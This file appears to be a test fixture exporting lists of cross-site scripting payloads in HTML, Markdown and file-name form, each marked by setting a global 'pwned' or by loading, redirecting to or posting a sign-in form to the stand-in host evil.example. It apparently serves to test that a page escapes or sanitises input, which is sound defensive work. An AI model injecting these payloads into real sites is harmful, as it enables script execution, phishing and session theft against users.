// Text that runs as a script where a page does not escape it. Each sets the global `pwned`, or leads
// to a host that no page may name.
export const markup = [
  '<script>pwned=1</script>',
  '"><img src=x onerror=pwned=2>',
  "'><svg/onload=pwned=3>",
  '</title></textarea></script></style><svg/onload=pwned=4>',
  '<a href="javascript:pwned=5">press</a>',
  '<iframe srcdoc="<script>parent.pwned=6</script>"></iframe>',
  '" autofocus onfocus=pwned=7 tabindex=0 x="',
  '<details open ontoggle=pwned=8><summary>open</summary></details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned=9&gt;">',
  '<svg><script href="data:text/javascript,pwned=10"></script><use href="data:image/svg+xml,<svg id=x><script>pwned=10</script></svg>#x"/></svg>',
  '<style>@import "http://evil.example/a.css";body{display:none}</style>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<link rel=stylesheet href=http://evil.example/b.css>',
  '<form action="http://evil.example/"><input name=q id=q><button>Sign in</button></form>',
  '<object data="javascript:pwned=16"></object><embed src="javascript:pwned=16">',
  '<p id=main>ids</p><p id=q>that</p><p id=results>shadow</p><img name=body src=x><a id=live name=live>ours</a>',
  '<img src=x style="position:fixed;inset:0" onload=pwned=18 onerror=pwned=18>',
  '\u202e<b>reversed</b>\u0000\u2028pwned=19',
  "{{constructor.constructor('pwned=20')()}}${pwned=20}<%=pwned=20%>",
  '<video><source onerror=pwned=21></video><audio src onerror=pwned=21></audio>',
  '<noscript><p title="</noscript><img src=x onerror=pwned=22>">',
  '<button popovertarget=main formaction=javascript:pwned=23 onclick=pwned=23>press</button>',
];

/** What Markdown can make of links and images. */
export const markdown = [
  '[press](javascript:pwned=31)',
  '[press](JaVaScRiPt&colon;pwned=32)',
  '[press](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)',
  '![x](x" onerror="pwned=34)',
  '![x](javascript:pwned=35)',
  '<javascript:pwned=36>',
  '[press](vbscript:pwned=37)',
  '[[Home|<img src=x onerror=pwned=38>]]',
  '![[<img src=x onerror=pwned=39>]]',
  '[press](//evil.example/x "a" onmouseover="pwned=40")',
  '[^1]\n\n[^1]: <img src=x onerror=pwned=41>',
  '> [!note] <img src=x onerror=pwned=42>\n> <svg/onload=pwned=42>',
  '| a |\n|---|\n| <img src=x onerror=pwned=43> |',
  '```"><script>pwned=44</script>\n</code></pre><script>pwned=44</script>\n```',
  '# <img src=x onerror=pwned=45> {#main onclick=pwned=45}',
  '$</script><script>pwned=46</script>$',
  '%%<script>pwned=47</script>%% <!-- --><script>pwned=47</script> -->',
  '[ref]\n\n[ref]: javascript:pwned=48',
  '$\\text{<img src=x onerror=pwned=49>}$ $\\href{javascript:pwned=49}{x}$',
  '$$\\text{</math><script>pwned=50</script>}$$ $\\class{x" onclick="pwned=50}{y}$',
  '<math><mi onclick=pwned=51 href="javascript:pwned=51">x</mi><annotation-xml encoding="text/html"><img src=x onerror=pwned=51></annotation-xml></math>',
  '<span class="math math-inline"><img src=x onerror=pwned=52></span> <span class="math math-display">\\def\\a{\\a\\a}\\a</span>',
];

/** File names that a file system takes. */
export const fileNames = [
  '<img src=x onerror=pwned=61>',
  '"><svg onload=pwned=62>',
  "';pwned=63;'",
  '&lt;script&gt;pwned=64&lt;⁄script&gt;',
  'a#b?c%3Cscript%3Epwned=65',
  'javascript:pwned=66',
  '{{pwned=67}}',
];
